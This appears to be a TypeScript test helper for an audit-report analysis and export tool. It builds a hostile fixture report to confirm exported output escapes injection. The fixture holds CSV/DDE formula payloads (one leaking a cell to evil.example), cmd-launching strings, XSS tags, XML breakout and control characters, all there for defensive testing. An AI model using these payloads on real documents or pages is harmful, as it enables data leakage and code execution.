/**
 * Sample reports analysed in-process the way the CLI does (model → workspace analysis →
 * OutAudit), and the export data built from them.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { analyzeAudit, analyzeManuals, type AuditAnalysis } from '../../../server/src/analysis/workspace';
import type { Side } from '../../../server/src/cli/analyze';
import { outAudit } from '../../../server/src/cli/build';
import type { OutAudit } from '../../../server/src/cli/report';
import { buildAuditExport, type AuditExport } from '../../../server/src/export/auditData';
import type { ManualFile } from '../../../server/src/export/manualDocument';
import { parseDocument } from '../../../server/src/model';
import type { DocumentModel } from '../../../server/src/model/types';
import { defaultScheme, getBuiltinScheme } from '../../../server/src/scheme/loader';
import type { Scheme } from '../../../server/src/scheme/types';

export const REPO = path.resolve(__dirname, '..', '..', '..');

export interface AnalysedReport {
  text: string;
  model: DocumentModel;
  analysis: AuditAnalysis;
  audit: OutAudit;
  x: AuditExport;
}

/** A report (file in the repo, or text) analysed and turned into export data. */
export function analyseReport(source: { file: string } | { text: string; name?: string }, locale: 'zh' | 'en' = 'zh', withScheme?: Scheme): AnalysedReport {
  const text = 'file' in source ? fs.readFileSync(path.join(REPO, source.file), 'utf8') : source.text;
  const rel = 'file' in source ? source.file : (source.name ?? 'report.md');
  let scheme = withScheme ?? defaultScheme();
  let model = parseDocument(text, scheme);
  const named = model.frontMatter.scheme ? getBuiltinScheme(model.frontMatter.scheme) : undefined;
  if (named && named.id !== scheme.id && !withScheme) {
    scheme = named;
    model = parseDocument(text, scheme);
  }
  // Non-conformities are judged as of the date samples/EXPECTED.md is written for.
  const analysis = analyzeAudit({ uri: rel, model }, scheme, { asOf: '2027-06-30' });
  const side = { files: [{ rel, abs: rel, display: rel, kind: 'audit', text, model, scheme }] } as unknown as Side;
  const audit = outAudit(analysis, side, locale);
  const x = buildAuditExport({ file: rel, text, model, analysis, audit, locale, generatedAt: '2026-03-18' });
  return { text, model, analysis, audit, x };
}

/** The sample manual's files (root first) and their coverage. */
export function sampleManual(): { files: ManualFile[]; manual: ReturnType<typeof analyzeManuals> } {
  const scheme = defaultScheme();
  const names = ['README.md', '01-组织与资源.md', '02-商品服务.md', '03-顾客服务.md'];
  const files = names.map((n) => {
    const rel = `manual/${n}`;
    const text = fs.readFileSync(path.join(REPO, 'samples', rel), 'utf8');
    return { rel, display: `samples/${rel}`, text, model: parseDocument(text, scheme) };
  });
  const manual = analyzeManuals(
    files.map((f) => ({ uri: f.rel, model: f.model })),
    scheme,
    { manualRoot: 'manual/README.md' },
  );
  return { files, manual };
}

/** Evidence and notes that try to be markup, formulas or commands; all must come out as text. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
  cmd: "+cmd|' /C calc'!A0",
  minus: '-2+3+cmd|x',
  at: '@SUM(1+1)*cmd|x',
  html: '<script>alert("x")</script><img src=x onerror=alert(1)>',
  xml: `]]><w:p>&amp;&lt;"'</w:p>`,
  controls: 'ctl\u0001\u0008\u001b[31mred\u007f\u202Eevil',
};

/** An audit report whose entries carry the hostile texts (as evidence, as notes and as reasons). */
export function hostileReport(): string {
  return [
    '---',
    'type: audit',
    `organisation: "=cmd|'/C calc'!A0 <b>公司</b>"`,
    '---',
    `# 报告 ${HOSTILE.html}`,
    '',
    '## 5.1 体系',
    '',
    `- [5.1.1.1] 100% 正常。证据：${HOSTILE.hyperlink}`,
    `- [5.1.1.2] 90% ${HOSTILE.cmd} 证据：${HOSTILE.minus}`,
    `- [5.1.2.1] 80% ${HOSTILE.html} 证据：${HOSTILE.at}`,
    `- [5.1.2.2] 4/5 ${HOSTILE.xml} 证据：${HOSTILE.controls}`,
    '',
    '| 条款 | 得分 | 证据 | 备注 |',
    '| --- | --- | --- | --- |',
    `| [5.1.3.1] | 100% | ${HOSTILE.hyperlink.replace(/\|/g, '\\|')} | ${HOSTILE.at.replace(/\|/g, '\\|')} |`,
    `| [5.2.5.5] | 不适用 ${HOSTILE.cmd.replace(/\|/g, '\\|')} | 无 | 无 |`,
    '',
    `- [扣分] ${HOSTILE.hyperlink}`,
    '',
  ].join('\n');
}
